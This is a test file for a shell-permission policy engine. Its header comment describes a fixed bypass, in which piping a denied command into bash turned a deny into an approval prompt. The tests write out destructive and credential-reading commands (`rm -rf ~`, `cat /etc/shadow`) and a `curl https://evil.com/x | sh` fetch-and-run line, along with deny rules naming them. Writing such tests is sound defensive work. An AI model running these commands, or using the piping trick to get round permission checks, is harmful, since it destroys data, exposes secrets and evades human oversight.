// Session 45: a shell given its commands on a pipe (piped-scripts.ts). `bash <<< 'rm -rf ~'` was
// read whole and denied beside Shell(rm *), but `echo 'rm -rf ~' | bash` only asked (a shell
// reading standard input): piping a denied command to a shell turned a deny into an ask, which a
// person may approve. The piped text is now read as a stored line, for deny and ask rules; the
// shell still asks, so no line is allowed that was not. The text must be the printer's own (not
// computed by a filter, not a lister's names), and the shell must take no other standard input.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decideBoth, op, source, type Rules } from './helpers/policy.js';
import { lineTable } from './helpers/line-table.js';

const RULES: Rules = { deny: ['Shell(rm *)', 'Read(//etc/**)', 'Domain(evil.com)'], allow: ['Shell(*)', 'Read(**)', 'Edit(**)', 'Domain(*)'] };

describe('a text piped to a shell is read for deny and ask rules (each deny row asked at the session start)', () => {
  lineTable(RULES, [
    ['echo "rm -rf ~" | bash', 'deny'],
    ["echo 'rm -rf x' | sudo sh", 'deny'],
    ["printf 'ls\\nrm x\\n' | bash -s", 'deny'],
    ["echo 'cat /etc/passwd' | bash", 'deny'],
    ["echo 'curl https://evil.com/x' | sh", 'deny'],
    ["{ echo 'rm x'; } | bash", 'deny'],
    // (Nested: the shell inside reads the text too, and its own pipe's.)
    ["echo 'echo rm x | bash' | bash", 'deny'],
    ["echo 'rm x' | bash -c bash", 'deny'],
    ["echo x | bash -c 'echo rm y | bash'", 'deny'],
    ["yes 'rm -rf x' | head -1 | bash", 'deny'],
  ]);
});

describe('what stays as it was', () => {
  lineTable(RULES, [
    // (The shell reads its input: never allowed, read or not.)
    ['echo ls | bash', 'ask'],
    ['echo bash | bash', 'ask'],
    // (A filter's output is not the text that went in; `< f` and a here-string are what the shell reads.)
    ["echo 'xrm x' | cut -c2- | bash", 'ask'],
    ["echo 'rm x' | bash < f", 'ask'],
    ["echo 'rm x' | bash <<< ls", 'allow'], // (the here-string is its script, read whole)
    // (A program that does not run its input.)
    ["echo 'rm x' | cat", 'allow'],
    ["echo 'rm x' | bash -c cat", 'allow'],
    ["echo 'rm x' > notes.txt", 'allow'],
  ]);
});

describe('property', () => {
  const denied = fc.constantFrom('rm -rf ~', 'rm x', 'cat /etc/shadow', 'curl https://evil.com/', 'ls; rm -f y');
  const printer = fc.constantFrom((t: string) => `echo '${t}'`, (t: string) => `printf '%s\\n' '${t}'`, (t: string) => `printf '${t}\\n'`, (t: string) => `echo '${t}' | cat`);
  const shell = fc.constantFrom('bash', 'sh', 'dash', 'sudo bash', 'bash -s', 'env bash', 'bash -', 'nice sh', 'zsh');
  it('a denied command piped to any shell by any printer is never allowed, and a deny rule on it decides (2,000 runs)', () => {
    fc.assert(fc.property(denied, printer, shell, (t, p, s) => {
      const line = `${p(t)} | ${s}`;
      const d = decideBoth([source(RULES)], op('shell', line));
      expect(d.decision, line).toBe('deny');
    }), { numRuns: 2_000 });
  });
});
